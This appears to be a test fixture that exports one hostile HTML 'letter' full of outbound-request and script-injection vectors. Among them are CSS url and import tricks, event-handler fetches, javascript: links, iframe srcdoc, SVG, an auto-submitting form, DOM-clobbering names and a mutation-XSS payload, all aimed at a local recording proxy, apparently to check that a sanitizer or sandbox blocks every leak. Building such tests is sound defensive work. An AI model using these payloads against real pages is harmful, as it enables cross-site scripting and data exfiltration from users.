/** A letter that tries every way we know to reach out of the envelope. All names end at the recording proxy. */
const OUT = 'http://out.localhost'

export const HOSTILE = `
<base href="${OUT}/base/"><meta http-equiv="refresh" content="0;url=${OUT}/refresh">
<link rel="stylesheet" href="${OUT}/link.css"><link rel="preload" as="image" href="${OUT}/preload.png"><link rel="dns-prefetch" href="${OUT}"><link rel="prefetch" href="${OUT}/prefetch">
<style>@import "${OUT}/import.css"; body { background: url(${OUT}/style.png) } @font-face { font-family: x; src: url(${OUT}/font.woff) } p { font-family: x }</style>
<script>fetch('${OUT}/script'); new Image().src = '${OUT}/script.png'; location = '${OUT}/location'</script>
<script src="${OUT}/script.js"></script>
<p style="background:url(${OUT}/attribute.png)">Bonjour</p><p style="background-image:image-set('${OUT}/set.png' 1x)">a</p><p style="background:u\\72l(${OUT}/escaped.png)">b</p>
<p style="--x:url(${OUT}/var.png);background:var(--x)">c</p><ul style="list-style-image:url(${OUT}/list.png)"><li>d</li></ul><p style="cursor:url(${OUT}/cursor.png),auto">e</p>
<img src="${OUT}/image.png"><img src="x" onerror="fetch('${OUT}/onerror')"><img srcset="${OUT}/srcset.png 1x"><img src="//out.localhost/relative.png"><img src="relative.png" lowsrc="${OUT}/low.png" dynsrc="${OUT}/dyn.png">
<picture><source srcset="${OUT}/picture.png"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="point"></picture>
<table background="${OUT}/table.png"><tr><td background="${OUT}/cell.png">f</td></tr></table>
<video src="${OUT}/video.mp4" poster="${OUT}/poster.png" autoplay></video><audio src="${OUT}/audio.mp3" autoplay></audio><video><source src="${OUT}/source.mp4"><track src="${OUT}/track.vtt" default></video>
<iframe src="${OUT}/frame"></iframe><iframe srcdoc="<img src='${OUT}/srcdoc.png'>"></iframe><frame src="${OUT}/f"><object data="${OUT}/object"></object><embed src="${OUT}/embed"><applet code="${OUT}/applet"></applet>
<svg onload="fetch('${OUT}/svg')"><image href="${OUT}/svg.png" xlink:href="${OUT}/svgx.png"/><use href="${OUT}/use.svg#a"/><animate attributeName="href" values="${OUT}/animate"/><style>@import "${OUT}/svg.css"</style><foreignObject><img src="${OUT}/foreign.png"></foreignObject></svg>
<form action="${OUT}/form" method="post"><input name="a" autofocus onfocus="this.form.submit()"><input type="image" src="${OUT}/input.png"><button formaction="${OUT}/button">g</button></form>
<a href="${OUT}/link" ping="${OUT}/ping" target="_top" id="lien">lien</a><a href="javascript:fetch('${OUT}/js')">js</a><map name="m"><area href="${OUT}/area" shape="default"></map>
<details open ontoggle="fetch('${OUT}/toggle')"><summary>h</summary></details><div popover id="p" onbeforetoggle="fetch('${OUT}/pop')">i</div><marquee onstart="fetch('${OUT}/marquee')">j</marquee>
<noscript><img src="${OUT}/noscript.png"></noscript><template><img src="${OUT}/template.png"></template><portal src="${OUT}/portal"></portal><fencedframe></fencedframe>
<div id="app">k</div><form id="status" name="body"></form><img name="getElementById"><x-a onclick="fetch('${OUT}/x')">l</x-a></p><p>Fin de la lettre</p>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${OUT}/mutation.png onerror=fetch('${OUT}/mutation')&gt;">`
